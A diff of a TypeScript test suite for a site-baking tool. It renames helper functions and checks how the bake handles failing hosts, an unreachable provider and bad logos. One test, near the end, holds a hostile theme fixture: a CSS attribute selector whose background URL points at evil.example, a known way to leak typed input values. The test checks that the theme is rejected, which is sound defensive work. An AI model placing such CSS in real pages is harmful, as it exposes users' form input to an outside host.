@@ -1,14 +1,18 @@
 import { readdirSync } from "node:fs";
 import { afterEach, describe, expect, it } from "vitest";
-import { type FixtureAnswer, type FixturePlan, portalConfigReply } from "../../bench/fixture-provider.ts";
-import { getCanaryText, hostName, manyHostsPlan } from "../../bench/generated-hosts.ts";
+import {
+  createPortalConfigReply,
+  type FixtureAnswer,
+  type FixturePlan,
+} from "../../bench/fixture-provider.ts";
+import { getCanaryText, getGeneratedHostName, manyHostsPlan } from "../../bench/generated-hosts.ts";
 import { type BakeFixture, createBakeFixture } from "../bake-fixture.ts";
 import { getExitCode } from "../report.ts";
 
 let fixture: BakeFixture;
 afterEach(() => fixture.close());
 
-const bad = hostName(1);
+const bad = getGeneratedHostName(1);
 /** The default provider with another response for one path of the bad host. */
 const failing =
   (part: string, answer: FixtureAnswer | undefined): FixturePlan =>
@@ -21,7 +25,7 @@ const shownIn = (outDir: string) =>
   readdirSync(outDir)
     .filter((name) => !name.startsWith("."))
     .sort();
-const logoFrom = (src: string) => portalConfigReply({ images: { ".portal-logo": { src } } });
+const logoFrom = (src: string) => createPortalConfigReply({ images: { ".portal-logo": { src } } });
 
 const kinds: readonly (readonly [string, FixturePlan, stage: string, reason: string])[] = [
   ["responds with 500", failing(config, { status: 500 }), "portal config", "HTTP status 500"],
@@ -136,32 +140,34 @@ describe("a host whose provider", () => {
       expect(report.hosts[1]?.reason).toContain(reason);
       expect(getExitCode(report)).toBe(2);
       expect(shownIn(fixture.outDir)).toEqual([
-        hostName(0),
-        hostName(2),
+        getGeneratedHostName(0),
+        getGeneratedHostName(2),
         "manifests",
         "release.json",
         "report.json",
       ]);
-      expect(fixture.read(hostName(2)).get("index.html")).toContain(getCanaryText(2));
+      expect(fixture.read(getGeneratedHostName(2)).get("index.html")).toContain(getCanaryText(2));
     },
   );
 
   it("is down keeps its last good output, and the bake ends with 1", async () => {
     fixture = await createBakeFixture(2, manyHostsPlan);
     await fixture.bake();
-    const before = [hostName(0), hostName(1)].map((host) => fixture.read(host));
+    const before = [getGeneratedHostName(0), getGeneratedHostName(1)].map((host) => fixture.read(host));
     fixture.compile({ id: "two" });
     await fixture.provider.close();
     const report = await fixture.bake();
     expect(report.hosts.map(({ status, reason }) => [status, reason])).toEqual(
-      [hostName(0), hostName(1)].map(() => [
+      [getGeneratedHostName(0), getGeneratedHostName(1)].map(() => [
         "kept",
         // Several calls are in flight: any of them may fail first.
         expect.stringMatching(/^http:\/\/[\w.:]+\/api\/\S+: connection refused$/),
       ]),
     );
     expect(getExitCode(report)).toBe(1);
-    expect([hostName(0), hostName(1)].map((host) => fixture.read(host))).toEqual(before);
+    expect([getGeneratedHostName(0), getGeneratedHostName(1)].map((host) => fixture.read(host))).toEqual(
+      before,
+    );
   });
 
   it("has a logo that cannot be drawn keeps its earlier pictures, and gets new ones from a later bake", async () => {
@@ -214,7 +220,7 @@ describe("a host whose provider", () => {
   });
 
   it("sends a malicious theme is baked without it and reported, and the bake ends with 2", async () => {
-    const hostile = portalConfigReply({
+    const hostile = createPortalConfigReply({
       StyleConfig: { "input[value^=a]": { background: "url(//evil.example)" }, ".card": { gap: "1px" } },
     });
     fixture = await createBakeFixture(2, failing(config, hostile));
